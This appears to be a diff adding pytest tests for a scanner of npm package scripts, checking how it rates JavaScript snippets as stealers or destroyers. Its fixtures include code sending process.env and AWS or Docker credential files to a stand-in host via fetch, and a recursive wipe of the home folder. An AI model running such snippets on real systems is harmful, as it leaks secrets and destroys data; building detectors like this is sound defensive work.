@@ -1,0 +1,60 @@
+"""What was taken for harm in honest packages of npm, and the harm beside it that is still found."""
+
+import pytest
+from weighed import worst_script
+
+from ostiary.core.scale import Severity
+
+CHILD = """
+const {spawn} = require('child_process');
+const one = spawn(process.execPath, ['other.js'], {stdio: ['ipc'], env: {...process.env}});
+one.send({told: process.env});
+"""
+TELLS = """
+process.on('message', told => fetch('https://a.example.invalid/', {method: 'POST', body: told}));
+"""
+ANSWERS = """
+const {spawn} = require('child_process');
+spawn(process.execPath, ['other.js'], {stdio: ['ipc']})
+    .on('message', told => fetch('https://a.example.invalid/', {method: 'POST', body: told}));
+"""
+COOKIES = """
+const cookies = require('%s');
+module.exports = request => fetch('https://a.example.invalid/', {headers: {x: cookies.read(request)}});
+"""
+REMOVES = (
+    "const fs = require('fs'); const dir = require('os').homedir(); module.exports = () => fs.%s"
+)
+
+
+def test_a_message_to_a_program_that_was_started_stays_on_the_machine() -> None:
+    assert worst_script("stealer", CHILD) is None
+    assert worst_script("stealer", CHILD, other=TELLS) is Severity.CRITICAL
+    answers = "process.send(process.env)"
+    assert worst_script("stealer", ANSWERS, other=answers) is Severity.CRITICAL
+
+
+@pytest.mark.parametrize(
+    ("path", "told"),
+    [
+        ("./../helpers/cookies", False),
+        ("./cookies.js", False),
+        ("../../.aws/credentials", True),
+        ("/root/.docker/config.json", True),
+    ],
+)
+def test_a_module_beside_it_bears_the_name_of_what_it_is_about(path: str, told: bool) -> None:
+    assert (worst_script("stealer", COOKIES % path) is not None) == told
+
+
+@pytest.mark.parametrize(
+    ("call", "severity"),
+    [
+        ("unlinkSync(dir)", None),
+        ("promises.unlink('/')", None),
+        ("rmSync(dir, {recursive: true, force: true})", Severity.MEDIUM),
+        ("readdirSync(dir).forEach(one => fs.unlinkSync(dir + '/' + one))", Severity.LOW),
+    ],
+)
+def test_a_folder_is_not_lost_by_what_removes_files(call: str, severity: Severity | None) -> None:
+    assert worst_script("destruction", REMOVES % call) is severity
